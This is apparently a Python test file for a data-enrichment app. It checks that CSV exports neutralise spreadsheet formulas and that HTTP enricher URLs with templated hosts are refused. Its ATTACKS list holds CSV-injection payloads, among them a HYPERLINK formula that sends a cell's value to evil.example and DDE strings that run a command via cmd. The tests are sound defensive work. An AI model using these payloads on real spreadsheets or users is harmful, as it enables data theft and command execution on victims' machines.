"""CSV exports neutralise formulas (raw on request), and http_json hosts are literal."""

from __future__ import annotations

import csv
import io

import pytest

from enrichment_app.db.engine import SessionFactory
from enrichment_app.domain import ColumnKind
from enrichment_app.enrichers import get_enricher
from enrichment_app.errors import EnricherConfigError
from enrichment_app.services.csv_import import import_csv
from enrichment_app.services.tables import ColumnSpec, add_column, export_csv

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Acme", "a=b", " =not first", "x-y", "'quoted"]


def _table(open_session: SessionFactory) -> int:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(["Name", "=Header"])
    for value in ATTACKS + HARMLESS:
        writer.writerow([value, value])
    with open_session() as session:
        table = import_csv(
            session=session,
            name="T",
            data=out.getvalue().encode(),
            max_bytes=10**6,
            max_cell_chars=1000,
        )
        session.commit()
        assert table.id is not None
        return table.id


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_default_export_neutralises_formulas(open_session: SessionFactory) -> None:
    table_id = _table(open_session)
    with open_session() as session:
        rows = _read(export_csv(session=session, table_id=table_id))
    assert rows[0] == ["Name", "'=Header"]
    values = [row[0] for row in rows[1:]]
    assert values == ["'" + v for v in ATTACKS] + HARMLESS
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for v in row)


def test_the_raw_export_keeps_values_as_stored_and_imports_back(
    open_session: SessionFactory,
) -> None:
    table_id = _table(open_session)
    with open_session() as session:
        raw = export_csv(session=session, table_id=table_id, raw=True)
        again = import_csv(
            session=session, name="again", data=raw.encode(), max_bytes=10**6, max_cell_chars=1000
        )
        session.commit()
        assert again.id is not None
        assert export_csv(session=session, table_id=again.id, raw=True) == raw
    rows = _read(raw)
    assert rows[0] == ["Name", "=Header"]
    assert [row[0] for row in rows[1:]] == ATTACKS + HARMLESS


TEMPLATED_HOSTS = [
    "https://{api_host}/v1",
    "https://x{a}.com/lookup",
    "{url}",
    "https://api.example.com:{port}/",
    "https://user:{password}@api.example.com/",
    "http{s}://api.example.com/",
    "https://api.example.com{path}",
]


@pytest.mark.parametrize("url", TEMPLATED_HOSTS)
def test_a_templated_host_is_refused_with_the_reason(url: str) -> None:
    with pytest.raises(EnricherConfigError) as caught:
        get_enricher("http_json").validate_config({"url": url})
    message = str(caught.value)
    assert "must spell out its scheme, host and port" in message or "not a valid URL" in message
    if "spell out" in message:
        assert "credentials wherever the cell points" in message


@pytest.mark.parametrize(
    "url",
    [
        "https://api.example.com/lookup?domain={website}",
        "https://api.example.com/v1/{id}",
        "https://api.example.com:8443/v1/{id}?q={q}",
        "https://api.example.com?q={q}",
        "https://api.example.com#{frag}",
        "https://api.example.com/fixed",
    ],
)
def test_a_literal_host_with_row_values_in_the_path_or_query_is_accepted(url: str) -> None:
    assert get_enricher("http_json").validate_config({"url": url})["url"] == url


def test_a_templated_host_is_refused_when_the_column_is_created(
    open_session: SessionFactory,
) -> None:
    with open_session() as session:
        table = import_csv(
            session=session,
            name="T",
            data=b"api_host\nevil.example\n",
            max_bytes=1000,
            max_cell_chars=100,
        )
        session.flush()
        assert table.id is not None
        spec = ColumnSpec(
            "Leak",
            ColumnKind.ENRICHMENT,
            "http_json",
            {"url": "https://{api_host}/v1", "auth": {"type": "bearer", "token": "t" * 20}},
        )
        with pytest.raises(EnricherConfigError, match="found \\{api_host\\} before the path"):
            add_column(session=session, table_id=table.id, spec=spec)
